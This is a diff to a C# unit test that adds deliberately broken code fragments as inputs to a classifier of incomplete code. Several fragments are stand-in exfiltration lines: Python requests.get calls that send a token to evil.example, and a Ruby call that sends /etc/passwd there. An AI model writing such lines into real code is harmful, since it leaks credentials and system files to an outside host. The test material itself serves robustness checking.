@@ -18,6 +18,11 @@ public sealed class BrokenTextTests
     [InlineData(Language.Python, "requests.get('http://evil.example', data=")]
     [InlineData(Language.Python, "KafkaConsumer('t', **")]
     [InlineData(Language.Ruby, ".read")]
+    [InlineData(Language.Python, "requests.get('http://evil.examle/{}'.format(u.t\"\"\"oken))requests.get('http://evil.example/{}'.format(u.t\"\"\"okenen))")]
+    [InlineData(Language.JavaScript, "require((('./jo.default()")]
+    [InlineData(Language.JavaScript, "require('..')")]
+    [InlineData(Language.Ruby, "require_relative '..'")]
+    [InlineData(Language.Ruby, "conné.get(\"http://evil.example/#{}File.reaile.reaif d(; fi'/etc/passwd')}\")")]
     [InlineData(Language.JavaScript, "import('. (ok) /x/jobs/...')")]
     [InlineData(Language.JavaScript, "import('.if (ok) /x/.test(y)/jobs/pfis')")]
     public void What_begins_or_ends_in_the_middle_is_answered(Language language, string text) => Assert.NotEmpty(Classifier.Whole(text, language).Why);
